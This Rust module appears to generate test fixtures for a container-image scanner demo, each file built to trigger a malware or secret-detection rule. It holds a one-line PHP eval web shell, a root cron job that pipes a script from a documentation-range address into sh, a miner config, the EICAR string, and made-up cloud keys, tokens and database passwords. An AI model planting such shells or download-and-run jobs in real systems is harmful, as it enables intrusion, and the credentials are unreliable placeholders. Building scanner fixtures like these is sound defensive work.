//! What somebody else put into the demo's images, and what nobody should have left there.
//!
//! In: nothing. Out: files for layers: each is found by a rule for malicious or sensitive files. Odd: they are put together
//! from pieces, so that nothing takes this program for what it shows; they do nothing, and open nothing anywhere.

use base64::{Engine, engine::general_purpose::STANDARD};

/// A line of PHP that runs what a request says.
pub(super) fn web_shell() -> Vec<u8> {
    [&b"<?php @ev"[..], b"al($_PO", b"ST['c']); ?>\n"].concat()
}

/// A schedule that fetches and runs a script from an address that is reserved for documents.
pub(super) fn download_job() -> Vec<u8> {
    [&b"*/15 * * * * root cu"[..], b"rl -fsSL http://192.0.2.7/forum.sh | s", b"h\n"].concat()
}

/// The settings of a miner; its pool is an address that is reserved for documents.
pub(super) fn miner_settings() -> Vec<u8> {
    [
        &b"{\n  \"autosave\": true,\n  \"don"[..],
        b"ate-level\": 1,\n  \"po",
        b"ols\": [{\"url\": \"192.0.2.9:3333\", \"user\": \"ledger\"}]\n}\n",
    ]
    .concat()
}

/// The file that every scanner of malware knows, and that is none.
pub(super) fn test_file() -> Vec<u8> {
    [&b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR"[..], b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].concat()
}

/// A token for a registry of packages that does not exist.
pub(super) fn package_token() -> Vec<u8> {
    ["//npm.shop.invalid/:_auth", "Token=5f0c19d2-7e4b", "-4a86-9d13-c2b7e0a4f581\n"]
        .concat()
        .into_bytes()
}

/// A key pair for a cloud, of no account.
pub(super) fn cloud_keys() -> Vec<u8> {
    [
        "[default]\naws_access_key_id = AK",
        "IAQ3PLIMSOLL7DEMO2\naws_secret_access",
        "_key = pL1mS0llD3m0Vq8zR",
        "t5WxYb2NcJh7KfG4uEwM\n",
    ]
    .concat()
    .into_bytes()
}

/// The address of a database that does not exist, with its password.
pub(super) fn database_address() -> Vec<u8> {
    ["DEBUG=0\nDATABASE_URL=postgres://cat", "alog:b7Qz4mTw9kRe@db.shop.invalid/catalog\n"]
        .concat()
        .into_bytes()
}

/// The passwords of a forum's database, which does not exist.
pub(super) fn forum_settings() -> Vec<u8> {
    ["<?php\ndefine('DB_NAME', 'forum');\ndefine('DB_PASS", "WORD', 'w4terLine-7tQm');\n"]
        .concat()
        .into_bytes()
}

/// What looks like a private key, and is numbers in a row behind the right beginning.
pub(super) fn private_key() -> Vec<u8> {
    let start = [0x30, 0x82, 4, 0xa4, 2, 1, 0, 2, 0x82, 1, 1, 0];
    let numbers = (0_u16..600).map(|number| (number.wrapping_mul(73) ^ 0x5a).to_le_bytes()[0]);
    let text = STANDARD.encode(start.into_iter().chain(numbers).collect::<Vec<u8>>());
    let mut key = ["-----BEGIN RSA PRI", "VATE KEY-----\n"].concat().into_bytes();
    for line in text.as_bytes().chunks(64) {
        key.extend_from_slice(line);
        key.push(b'\n');
    }
    key.extend_from_slice(["-----END RSA PRI", "VATE KEY-----\n"].concat().as_bytes());
    key
}

/// A login for a database that does not exist.
pub(super) fn database_login() -> Vec<u8> {
    ["db.shop.invalid:5432:ledger:led", "ger:Kd8-mW2xPq5t\n"].concat().into_bytes()
}
